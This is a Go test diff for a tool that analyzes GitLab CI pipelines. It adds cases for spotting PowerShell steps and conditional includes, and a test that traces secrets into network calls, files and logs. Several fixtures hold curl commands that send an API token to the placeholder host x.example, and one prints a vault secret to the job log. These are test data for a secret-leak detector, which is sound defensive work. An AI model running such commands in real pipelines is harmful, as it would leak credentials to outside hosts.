@@ -243,6 +243,9 @@ func TestGitLabSteps(t *testing.T) {
 		{"by anchors", ".a: &a {script: [x]}\nc: {<<: *a, before_script: [u]}\n", "0 u|1+ x"},
 		{"steps that are functions", "a:\n  run:\n  - {name: s, script: x}\n  - {name: t, step: gitlab.com/a/b@1}\n", "0 x|1 gitlab.com/a/b@1"},
 		{"PowerShell", "a: {tags: [saas-windows-medium-amd64], script: [x]}\n", "0(powershell) x"},
+		{"PowerShell by its variables", "a: {before_script: [x], script: ['y $env:PATH']}\n", "0(powershell) x|1+(powershell) y $env:PATH"},
+		{"PowerShell by its commands", "a: {script: ['Set-Location x']}\n", "0(powershell) Set-Location x"},
+		{"look-alikes", "a: {script: ['pre-Set-Up x; A=$env; $B=c', 'x-Get-Y']}\n", "0 pre-Set-Up x; A=$env; $B=c|1+ x-Get-Y"},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
@@ -273,6 +276,7 @@ func TestGitLabGaps(t *testing.T) {
 	}{
 		{"a file that is not there", tree{"": "include: a.yml\na: {script: [x]}\n"}, "1:10 remote: the included file is not in this repository or cannot be read; what it adds was not judged"},
 		{"a file by a variable", tree{"": "include: [{local: $A.yml}]\na: {script: [x]}\n"}, "1:19 computed: the included file is known only when the pipeline is made; what it adds was not judged"},
+		{"a file under a condition", tree{"": "include: [{local: a.yml, rules: [{if: $A}]}]\na: {script: [x]}\n", "a.yml": "b: {script: [x]}\n"}, "1:19 computed: the file is included only under conditions; it was judged as if they held"},
 		{"a file that includes itself", tree{"": "include: a.yml\na: {script: [x]}\n", "a.yml": "include: a.yml\n"}, "a.yml:1:10 limit: the file includes itself, and was read once"},
 		{"a file that is wrong", tree{"": "include: a.yml\na: {script: [x]}\n", "a.yml": "a: [\n"}, "1:10 syntax: the included file is not wholly understood; what it adds may be incomplete"},
 		{"a template of nobody", tree{"": "a: {extends: .b, script: [x]}\n"}, "1:14 syntax: what the job extends here is not in this repository; what it adds was not judged"},
@@ -329,6 +333,31 @@ func TestGitLabIsReadWithinLimits(t *testing.T) {
 		if got := lastGap(doc); got != "limit" {
 			t.Errorf("%s: the last gap is %q", name, got)
 		}
+	}
+}
+
+func TestGitLabFlows(t *testing.T) {
+	tests := []struct{ name, text, want string }{
+		{"the input of a component", "spec: {inputs: {a: {}}}\n---\nb: {script: ['curl $[[ inputs.a ]] -H x:$API_TOKEN https://x.example/$[[ inputs.a ]]']}\n", "b argv API_TOKEN unknown, b network API_TOKEN unknown"},
+		{"what an earlier stage makes", "b: {stage: deploy, script: ['curl -d $T https://x.example']}\na:\n  stage: build\n  script: ['echo T=$API_TOKEN > v.env']\n  artifacts: {reports: {dotenv: v.env}}\n", "a file API_TOKEN unknown, a output API_TOKEN unknown, b argv API_TOKEN unknown, b network API_TOKEN unknown"},
+		{"a file of the runner", "a:\n  secrets: {KEY: {vault: a/b/c}}\n  script: ['cat $KEY | base64']\n", "a log c no"},
+		{"another shell", "a:\n  script: ['X=$API_TOKEN']\n  after_script: ['curl -d $X https://x.example']\n", ""},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			doc := linkGitLab(t, tree{".gitlab-ci.yml": test.text}, ".gitlab-ci.yml")
+			var got []string
+			for _, flow := range doc.Root.Get("flows").List() {
+				got = append(got, strings.Join([]string{flow.Get("job").Str(), flow.Get("sink").Str(), flow.Get("secret", "name").Str(), flow.Get("masked").Str()}, " "))
+			}
+			slices.Sort(got)
+			if diff := cmp.Diff(test.want, strings.Join(slices.Compact(got), ", ")); diff != "" {
+				t.Error(diff)
+			}
+			if gaps := doc.Root.Get("gaps").List(); len(gaps) > 0 {
+				t.Errorf("got the gap %q", gaps[0].Get("what").Str())
+			}
+		})
 	}
 }
 
